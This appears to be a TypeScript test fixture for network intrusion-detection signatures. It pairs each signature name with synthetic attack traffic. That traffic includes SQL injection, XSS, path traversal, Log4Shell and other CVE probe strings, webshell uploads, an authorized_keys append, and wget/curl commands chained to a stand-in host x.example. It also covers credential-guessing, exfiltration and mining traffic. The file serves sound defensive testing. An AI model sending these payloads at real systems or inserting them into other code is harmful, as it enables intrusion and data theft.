// Recorded attacks: for signatures of the starter set the traffic that must hit each of them, by the name of the signature.

import type { RawTraffic, Traffic } from './capture.ts'
import {
  agent,
  echoRequests,
  exchange,
  fetched,
  given,
  hello,
  http,
  inbound,
  lookup,
  oddFlags,
  outbound,
  page,
  posted,
  refused,
  remoteCall,
  smb1,
  smbOpen,
  smbShare,
  talk,
  tcp,
  times,
  tlsRecord,
  udp,
} from './traffic.ts'

type Cases = Readonly<Record<string, Traffic | RawTraffic>>

const jndi = '$' + '{jndi:ldap://x.example/a}'
const key = `ssh-ed25519 ${'A'.repeat(60)} a@b`

const web: Cases = {
  'WEB Path traversal to the password file': inbound('/a?f=../../../../etc/passwd'),
  'WEB Encoded path traversal (CVE-2021-41773)': inbound('/cgi-bin/.%2e/.%2e/bin/x'),
  'WEB Read of the environment of a process': inbound('/?f=/proc/self/environ'),
  'WEB Null byte in a path': inbound('/a%00.jpg'),
  'WEB SQL injection: UNION SELECT': inbound('/?id=1%20UNION%20ALL%20SELECT%20name,%20psw%20FROM%20users'),
  'WEB SQL injection: always true condition': inbound("/?id=x'%20or%201=1"),
  'WEB SQL injection: schema tables': inbound('/?id=1%20and%20(select%20a%20from%20information_schema.tables)'),
  'WEB SQL injection: delay of MySQL': inbound('/?id=1%20and%20sleep(5)'),
  'WEB SQL injection: delay of SQL Server': inbound("/?id=1%20waitfor%20delay%20'0:0:5'"),
  'WEB SQL injection: delay of PostgreSQL': inbound('/?id=1;select%20pg_sleep(5)'),
  'WEB SQL injection: command shell': inbound("/?id=1;exec%20master..xp_cmdshell%20'dir'"),
  'WEB SQL injection: write of a file': inbound("/?id=1%20into%20outfile%20'/var/www/a.php'"),
  'WEB SQL injection in a form: UNION SELECT': posted('q=1 union select name, psw from users'),
  'WEB Script in a parameter': inbound('/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
  'WEB Event handler in a parameter': inbound('/?q=%3Cimg%20src=x%20onerror=alert(1)%3E'),
  'WEB Script address in a parameter': inbound('/?next=javascript:alert(1)'),
  'WEB External entity in XML': posted('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]><a>&b;</a>'),
  'WEB Template injection probe': inbound('/?q={{7*7}}'),
  'WEB PHP wrapper: input': inbound('/?f=php://input'),
  'WEB PHP wrapper: filter': inbound('/?f=php://filter/read=convert.base64-encode/resource=index'),
  'WEB PHP wrapper: expect': inbound('/?f=expect://id'),
  'WEB Inclusion of a remote file': inbound('/?page=http://x.example/shell.txt?'),
  'WEB Command chained in a parameter': inbound('/?a=b;wget%20http://x.example/y'),
  'WEB Download chained in a parameter': inbound('/?a=b;curl%20http://x.example/y'),
  'WEB Shell called in a parameter': inbound('/?a=b;/bin/sh%20-c%20id'),
  'WEB Request for the metadata of a cloud machine': inbound('/?u=http://169.254.169.254/latest/meta-data/'),
  'WEB Serialised Java object in a request': posted('\xac\xed\x00\x05sr\x00\x11java.util.HashMap'),
  'WEB Script console of Jenkins': inbound('/script', { method: 'POST', body: 'script=println(1)' }),
  'WEB Application request to Hadoop YARN': inbound('/ws/v1/cluster/apps/new-application', {
    method: 'POST',
    body: ' ',
  }),
  'WEB Container made over an open Docker interface': tcp(
    false,
    2_375,
    http('/v1.41/containers/create', { method: 'POST', body: '{"Image":"a"}' }),
    page('{}'),
  ),
  'WEB Command in a pod over the kubelet': tcp(
    false,
    10_250,
    http('/run/a/b/c', { method: 'POST', body: 'cmd=id' }),
    page(''),
  ),
  'WEB Actuator that shows the memory': inbound('/actuator/heapdump'),
  'WEB Actuator that shows the environment': inbound('/actuator/env'),
  'WEB Repository of the source code': inbound('/.git/config'),
  'WEB Settings with passwords': inbound('/app/.env'),
  'WEB Copy of the WordPress settings': inbound('/wp-config.php.bak'),
  'WEB Key of SSH': inbound('/.ssh/id_rsa'),
  'WEB Key of a cloud account': inbound('/.aws/credentials'),
  'WEB Page that shows the PHP settings': inbound('/phpinfo.php'),
  'WEB State page of the server': inbound('/server-status'),
  'WEB Management of MySQL': inbound('/phpmyadmin/index.php'),
  'WEB Management of Tomcat': inbound('/manager/html'),
  'WEB Users of WordPress': inbound('/wp-json/wp/v2/users'),
  'WEB Many remote calls of WordPress at once': inbound('/xmlrpc.php', {
    ...{ method: 'POST', body: '<methodCall><methodName>system.multicall</methodName></methodCall>' },
  }),
  'WEB Dump of a database': inbound('/backup.sql'),
  'WEBSHELL Well-known name: c99': inbound('/up/c99.php'),
  'WEBSHELL Well-known name: r57': inbound('/up/r57.php'),
  'WEBSHELL Well-known name: wso': inbound('/up/wso.php'),
  'WEBSHELL Command in a parameter': inbound('/a.php?cmd=id'),
  'WEBSHELL PHP code uploaded': posted('<?php @eval($_POST["a"]); ?>'),
  'WEBSHELL Java page uploaded': posted('<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
  'WEBSHELL SSH key added': posted(`a=;echo ${key}>>/root/.ssh/authorized_keys`),
  'WEB Answer with the identity of root': given('uid=0(root) gid=0(root) groups=0(root)'),
  'WEB Answer with the password file': given('root:x:0:0:root:/root:/bin/bash'),
  'WEB Answer with a private key': given('-----BEGIN RSA PRIVATE KEY-----'),
  'WEB Answer with a dump of a database': given('-- MySQL dump 10.13'),
  'WEB Answer with a list of a folder': given('<html><title>Index of /a</title>'),
}

const exploits: Cases = {
  'EXPLOIT JNDI lookup in a path (CVE-2021-44228)': inbound(`/${jndi}`),
  'EXPLOIT JNDI lookup in a header (CVE-2021-44228)': inbound('/', { headers: `X-A: ${jndi}\r\n` }),
  'EXPLOIT JNDI lookup in a body (CVE-2021-44228)': posted(`a=${jndi}`),
  'EXPLOIT Function in a header for a shell (CVE-2014-6271)': inbound('/', { headers: 'X-A: () { :; }; id\r\n' }),
  'EXPLOIT Class loader of Spring (CVE-2022-22965)': posted('class.module.classLoader.resources=x'),
  'EXPLOIT Expression in the content type of Struts (CVE-2017-5638)': inbound('/', {
    headers: "Content-Type: %{(#a='multipart').(@ognl.OgnlContext@x)}\r\n",
  }),
  'EXPLOIT Expression in a path of Confluence (CVE-2022-26134)': inbound(
    '/%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D/',
  ),
  'EXPLOIT Setup of Confluence opened again (CVE-2023-22515)': inbound(
    '/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false',
  ),
  'EXPLOIT Test script of PHPUnit (CVE-2017-9841)': inbound('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
  'EXPLOIT Function call in ThinkPHP': inbound('/?s=a/invokefunction&function=call_user_func_array'),
  'EXPLOIT Form of Drupal (CVE-2018-7600)': inbound('/user/register?element_parents=a'),
  'EXPLOIT Management of BIG-IP (CVE-2020-5902)': inbound('/tmui/login.jsp/..;/tmui/x'),
  'EXPLOIT Command over the REST interface of BIG-IP (CVE-2022-1388)': inbound('/mgmt/tm/util/bash'),
  'EXPLOIT File of a VPN gateway (CVE-2018-13379)': inbound('/remote/fgt_lang?lang=/../../x'),
  'EXPLOIT File of a VPN gateway (CVE-2019-11510)': inbound('/dana-na/../dana/html5acc/guacamole/../../x'),
  'EXPLOIT Script of a gateway (CVE-2019-19781)': inbound('/vpn/../vpns/cfg/smb.conf'),
  'EXPLOIT Autodiscover of a mail server (CVE-2021-34473)': inbound(
    '/autodiscover/autodiscover.json?a=a@x.example/powershell/',
  ),
  'EXPLOIT Router set up from outside (GPON)': inbound('/GponForm/diag_Form?images/'),
  'EXPLOIT Router set up from outside (HNAP1)': inbound('/HNAP1/'),
  'EXPLOIT Router set up from outside (boaform)': inbound('/boaform/admin/formLogin', { method: 'POST', body: 'a=b' }),
  'EXPLOIT Command to a router (setup.cgi)': inbound('/setup.cgi?next_file=a&todo=syscmd&cmd=id'),
  'EXPLOIT Transaction against SMB 1 (MS17-010)': exchange(
    ...([false, 445] as const),
    ...Array.from({ length: 50 }, () => smb1(0x33)),
  ),
  'EXPLOIT Channel of a remote desktop (CVE-2019-0708)': exchange(
    ...([
      false,
      3_389,
      '\x03\x00\x00\x0b\x06\xe0\x00\x00\x00\x00\x00',
      '\x03\x00\x00\x0b\x06\xd0\x00\x00\x12\x34\x00',
    ] as const),
    `\x03\x00\x00\x40\x02\xf0\x80${'c'.repeat(20)}MS_T120\x00${'\x00'.repeat(29)}`,
  ),
  'EXPLOIT Heartbeat longer than its record (CVE-2014-0160)': tlsRecord(
    'shop.example',
    '\x18\x03\x02\x00\x03\x01\x40\x00',
  ),
  'SHELLCODE Long row of empty instructions': tcp(false, 9_999, '\x90'.repeat(64)),
  'SHELLCODE Shell of Linux': tcp(false, 9_999, 'aaaa\x31\xc0\x50\x68//shh/bin\x89\xe3'),
  'DATABASE Module or file written through Redis': tcp(false, 6_379, 'CONFIG SET dir /var/spool/cron\r\n', '+OK\r\n'),
  'DATABASE Memcached asked from outside': tcp(false, 11_211, 'stats\r\n', 'END\r\n'),
  'DATABASE MongoDB asked from outside': tcp(
    false,
    27_017,
    `\x3a\x00\x00\x00\x01\x00\x00\x00${'\x00'.repeat(16)}listDatabases\x00`,
    'ok',
  ),
  'DATABASE Elasticsearch asked from outside': tcp(false, 9_200, http('/_cat/indices?v'), page('a')),
  'RPC List of all programs': udp(
    false,
    111,
    `abcd\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0\x00\x00\x00\x02\x00\x00\x00\x04`,
  ),
  'RPC List of all programs over TCP': tcp(
    false,
    111,
    `\x80\x00\x00\x18abcd\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0\x00\x00\x00\x02\x00\x00\x00\x04`,
    'ok',
  ),
}

const scanners: Readonly<Record<string, string>> = {
  sqlmap: 'sqlmap/1.7',
  Nikto: 'Mozilla/5.00 (Nikto/2.1.6)',
  'Nmap scripts': 'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
  masscan: 'masscan/1.3',
  zgrab: 'Mozilla/5.0 zgrab/0.x',
  Nuclei: 'Nuclei - Open-source project (github.com)',
  gobuster: 'gobuster/3.6',
  DirBuster: 'DirBuster-1.0',
  WPScan: 'WPScan v3',
  Acunetix: 'Mozilla/5.0 acunetix-wvs',
  OpenVAS: 'Mozilla/5.0 [en] (X11, U; OpenVAS 8)',
  w3af: 'w3af.org',
  WhatWeb: 'WhatWeb/0.5.5',
  'Fuzz Faster U Fool': 'Fuzz Faster U Fool v2.1.0',
  feroxbuster: 'feroxbuster/2.10',
  Hydra: 'Mozilla/4.0 (Hydra)',
  Censys: 'Mozilla/5.0 (compatible; CensysInspect/1.1)',
}

const scans: Cases = {
  ...Object.fromEntries(
    Object.entries(scanners).map(([name, said]) => [`SCAN ${name} at work`, inbound('/', agent(said))]),
  ),
  'SCAN Packets without flags': oddFlags(0),
  'SCAN Packets with FIN, PSH and URG': oddFlags(0x29),
  'SCAN Packets with SYN and FIN': oddFlags(0x03),
  'SCAN Many refused connections of one source': refused(120),
  'SCAN Many echo requests of one source': echoRequests(false, 110, 32),
  'SCAN SNMP with the community public': udp(false, 161, '0&\x02\x01\x01\x04\x06public\xa0\x19'),
  'SCAN Telephone scanner': udp(false, 5060, 'OPTIONS sip:a\r\nUser-Agent: friendly-scanner\r\n\r\n'),
  'AMPLIFIER List of clients of a time server': udp(false, 123, `\x17\x00\x03\x2a${'\x00'.repeat(4)}`),
  'AMPLIFIER Memcached': udp(false, 11_211, '\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n'),
  'AMPLIFIER Search for devices': times(25, udp(false, 1_900, 'M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n')),
  'AMPLIFIER Generator of characters': times(25, udp(false, 19, 'a')),
  'AMPLIFIER Requests for everything at a name server': times(60, {
    ...lookup('example.org', 'any'),
    isFromInside: false,
  }),
}

/** Signs in wrongly again and again, over one connection. */
const guessed = (port: number, greeting: string, question: string, answer: string): Traffic =>
  talk(false, port, [`<${greeting}`, ...Array.from({ length: 14 }, () => [question, `<${answer}`]).flat()])

const basic = (credentials: string): Traffic => inbound('/', { headers: `Authorization: Basic ${credentials}\r\n` })

const logins: Cases = {
  'LOGIN Many SSH connections of one source': times(
    15,
    talk(false, 22, ['SSH-2.0-libssh_0.9.6', '<SSH-2.0-OpenSSH_9.6']),
  ),
  'LOGIN Guessing over SSH': times(25, talk(false, 22, ['<SSH-2.0-OpenSSH_9.6', 'SSH-2.0-Go'])),
  'LOGIN Guessing over remote desktop': times(25, tcp(false, 3_389, '')),
  'LOGIN Guessing over SMB': times(25, tcp(false, 445, '')),
  'LOGIN Guessing over FTP': guessed(21, '220 files', 'PASS a', '530 Not logged in'),
  'LOGIN Guessing over SMTP': guessed(25, '220 mail.example ESMTP', 'AUTH PLAIN AGEAYQ==', '535 Failed'),
  'LOGIN Guessing over POP3': guessed(110, '+OK ready', 'PASS a', '-ERR failed'),
  'LOGIN Guessing over IMAP': guessed(143, '* OK ready', 'a LOGIN a b', 'a NO [AUTHENTICATIONFAILED] failed'),
  'LOGIN Guessing at MySQL': times(15, tcp(false, 3_306, 'login', "\xff\x15\x04#28000Access denied for user 'a'")),
  'LOGIN Guessing at SQL Server': times(15, tcp(false, 1_433, 'login', [...'Login failed for user', ''].join('\x00'))),
  'LOGIN Guessing at PostgreSQL': times(15, tcp(false, 5_432, 'login', 'E\x00password authentication failed for user')),
  'LOGIN Guessing at a web server': times(25, inbound('/', {}, page('no', '', '401 Unauthorized'))),
  'LOGIN Anonymous FTP': talk(false, 21, ['<220 files', 'USER anonymous', '<331 Password']),
  'LOGIN Telnet with a factory password': tcp(false, 23, 'root\r\nxc3511\r\n'),
  'LOGIN Factory password at a web server: admin and admin': basic('YWRtaW46YWRtaW4='),
  'LOGIN Factory password at a web server: root and root': basic('cm9vdDpyb290'),
  'LOGIN Factory password at a web server: tomcat and tomcat': basic('dG9tY2F0OnRvbWNhdA=='),
  'LOGIN Factory password at a web server: admin without a password': basic('YWRtaW46'),
  'LOGIN Old remote shell as root': tcp(false, 514, '0\x00root\x00root\x00id\x00'),
  'MAIL Probe for accounts: VRFY': talk(false, 25, [
    '<220 mail.example ESMTP',
    'HELO a',
    '<250 ok',
    'VRFY root',
    '<252 ok',
  ]),
  'MAIL Probe for accounts: EXPN': talk(false, 25, [
    '<220 mail.example ESMTP',
    'HELO a',
    '<250 ok',
    'EXPN all',
    '<550 no',
  ]),
  'FTP Command on the server: SITE EXEC': talk(false, 21, [
    '<220 files',
    'USER a',
    '<331 Password',
    'SITE EXEC id',
    '<200 ok',
  ]),
}

const movement: Cases = {
  'SMB Share of the system folder': smbShare('\\\\10.10.0.5\\ADMIN$'),
  'SMB Share of a whole disk': smbShare('\\\\10.10.0.5\\C$'),
  'SMB Remote control: PsExec': smbOpen('psexesvc'),
  'SMB Remote control: RemCom': smbOpen('RemCom_communicaton'),
  'SMB Remote control: services': smbOpen('svcctl'),
  'SMB Remote control: tasks': smbOpen('atsvc'),
  'SMB Remote control: registry': smbOpen('winreg'),
  'SMB Remote control: accounts': smbOpen('samr'),
  'SMB Version 1 offered': exchange(false, 445, smb1(0x72, '\x00\x0c\x00\x02NT LM 0.12\x00'), smb1(0x72)),
  'DIRECTORY Copy of all passwords (DCSync)': remoteCall('e3514235-4b06-11d1-ab04-00c04fc2dcd2', 4, 3),
  'DIRECTORY Server made to sign in (PetitPotam)': remoteCall('c681d488-d850-11d0-8c52-00c04fd90f7e', 1, 0),
  'DIRECTORY Server made to sign in (spooler)': remoteCall('12345678-1234-abcd-ef00-0123456789ab', 1, 65),
  'WINDOWS Remote commands (WinRM)': tcp(false, 5_985, http('/wsman', { method: 'POST', body: '<a/>' }), page('')),
}

const malware: Cases = {
  'DOWNLOAD Program for Windows called a picture': fetched(
    `MZ${'\x00'.repeat(76)}This program cannot be run in DOS mode`,
    'Content-Type: image/png\r\n',
  ),
  'DOWNLOAD Program for Linux called a text': fetched(`\x7fELF${'\x00'.repeat(60)}`, 'Content-Type: text/plain\r\n'),
  'DOWNLOAD Program with the name of a document': outbound('/bill.pdf.exe'),
  'DOWNLOAD Program with the name of a text': outbound('/bill.doc.exe'),
  'DOWNLOAD Program with the name of a picture': outbound('/cat.jpg.exe'),
  'DOWNLOAD Screen saver': outbound('/a.scr'),
  'DOWNLOAD HTML application': outbound('/a.hta'),
  'DOWNLOAD Script of PowerShell': outbound('/a.ps1'),
  'DOWNLOAD Script of Visual Basic': outbound('/a.vbs'),
  'DOWNLOAD By PowerShell': outbound('/', agent('Mozilla/5.0 (Windows NT) WindowsPowerShell/5.1')),
  'DOWNLOAD By certutil': outbound('/', agent('CertUtil URL Agent')),
  'DOWNLOAD By BITS': outbound('/', agent('Microsoft BITS/7.8')),
  'TROJAN Command line of Windows sent out': tcp(
    true,
    8_000,
    'Microsoft Windows [Version 10.0]\r\n(c) Microsoft Corporation.',
  ),
  'TROJAN Prompt of PowerShell sent out': tcp(true, 8_000, 'PS C:\\Users\\a> '),
  'TROJAN Check-in of Empire': outbound('/admin/get.php', { headers: 'Cookie: session=abc\r\n' }),
  'TROJAN Check-in of a beacon': outbound('/submit.php?id=12345', { method: 'POST', body: 'x' }),
  'TROJAN Agent that calls itself Meterpreter': outbound('/', agent('Meterpreter/Windows')),
  'TROJAN Loader with an empty browser name': outbound('/', agent('Mozilla/4.0 (compatible; ICS)')),
  'TROJAN Chat on an unusual port': tcp(true, 8_081, 'NICK bot1\r\nUSER bot1 0 * :a\r\n', ':a 001 bot1 :hi\r\n'),
  'TROJAN Connection to port 4444': tcp(true, 4_444, ''),
  'TROJAN Connection to port 31337': tcp(true, 31_337, ''),
  'TUNNEL Very long name looked up': times(12, lookup(`${`${'a'.repeat(60)}.`.repeat(3)}x.example`)),
  'TUNNEL Large echo requests': echoRequests(true, 25, 1_000),
  'PHISHING Password sent to an address without a name': outbound('/login', {
    ...{ method: 'POST', host: '203.0.113.77', body: 'user=a&password=b' },
  }),
  'PHISHING Page that asks to run a command': fetched(
    '<script>navigator.clipboard.writeText("powershell -w hidden -c a")</script>',
    'Content-Type: text/html\r\n',
  ),
  'MINING Subscription at a pool': tcp(true, 3_333, '{"id":1,"method":"mining.subscribe","params":[]}\n'),
  'MINING Sign-in at a pool': tcp(true, 3_333, '{"id":2,"method":"mining.authorize","params":["a","b"]}\n'),
  'MINING Sign-in of Ethereum at a pool': tcp(true, 4_443, '{"id":1,"method":"eth_submitLogin","params":["a"]}\n'),
  'MINING Sign-in of Monero at a pool': tcp(
    true,
    3_333,
    '{"method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6"}}\n',
  ),
}

/** Names that are looked up, or asked for in TLS, by the beginning of the signature's name. */
const named = (prefix: string, names: readonly string[], make: (name: string) => Traffic, host = ''): Cases =>
  Object.fromEntries(names.map((name) => [`${prefix} ${name}`, make(`${host}${name}`)]))

const names: Cases = {
  ...named('DNS Name of a dynamic service:', ['duckdns.org', 'no-ip.org', 'ddns.net', 'hopto.org'], lookup, 'a.'),
  'DNS Name of the Tor network': lookup('abcdef.onion'),
  'DNS Way into the Tor network through the web': lookup('abcdef.onion.to'),
  ...named('TUNNEL To the inside through', ['ngrok.io', 'trycloudflare.com', 'serveo.net'], hello, 'a.'),
  ...named(
    'MINING Pool',
    [
      'minexmr.com',
      'nanopool.org',
      'supportxmr.com',
      '2miners.com',
      'moneroocean.stream',
      'nicehash.com',
      'coinhive.com',
    ],
    lookup,
    'pool.',
  ),
  ...named(
    'LOOKUP Own address at',
    ['api.ipify.org', 'icanhazip.com', 'ifconfig.me', 'ipinfo.io', 'checkip.amazonaws.com', 'checkip.dyndns.org'],
    lookup,
  ),
  ...named(
    'POLICY DNS over HTTPS at',
    ['dns.google', 'cloudflare-dns.com', 'dns.quad9.net', 'doh.opendns.com', 'dns.adguard.com'],
    hello,
  ),
  ...named('POLICY Anonymizer', ['psiphon.ca', 'hidemyass.com', 'ultrasurf.us'], lookup, 'www.'),
  ...named('POLICY Remote control through', ['teamviewer.com', 'anydesk.com'], hello, 'a.'),
  ...named('UPLOAD File service', ['transfer.sh', 'file.io', 'gofile.io', 'mega.nz'], hello),
  ...named('UNWANTED Software of', ['opencandy.com', 'conduit-services.com'], lookup, 'cdn.'),
}

const policy: Cases = {
  'POLICY Proxy outside asked for a way (SOCKS 5)': tcp(true, 1_080, '\x05\x01\x00', '\x05\x00'),
  'POLICY File sharing (BitTorrent)': tcp(true, 6_881, `\x13BitTorrent protocol${'\x00'.repeat(48)}`),
  'POLICY Screen of a machine offered outside (VNC)': exchange(false, 5_900, 'RFB 003.008\n', 'RFB 003.008\n'),
  'POLICY Password sent without encryption': outbound('/', { headers: 'Authorization: Basic YTpi\r\n' }),
  'PROTOCOL SSH on an unusual port': talk(true, 8_443, ['SSH-2.0-OpenSSH_9.6', '<SSH-2.0-OpenSSH_9.6']),
  'PROTOCOL Encryption on a port for clear text': hello('example.org', 80),
  'UPLOAD By rclone': outbound('/', agent('rclone/v1.60')),
  'UPLOAD Shadow file of passwords': outbound('/up', {
    ...{ method: 'POST', body: 'root:$6$abc$def:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n' },
  }),
  'UPLOAD Dump of a database over FTP': talk(true, 21, [
    '<220 files',
    'USER a',
    '<331 Password',
    'STOR all.sql',
    '<150 ok',
  ]),
  'UPLOAD Database of passwords by mail': talk(true, 25, [
    ...['<220 mail.example ESMTP', 'EHLO a', '<250 ok', 'MAIL FROM:<a@a.example>', '<250 ok', 'RCPT TO:<b@b.example>'],
    ...['<250 ok', 'DATA', '<354 go', 'Content-Disposition: attachment; filename="a.kdbx"\r\n\r\na\r\n.', '<250 ok'],
  ]),
}

export const cases: Cases = {
  ...web,
  ...exploits,
  ...scans,
  ...logins,
  ...movement,
  ...malware,
  ...names,
  ...policy,
}
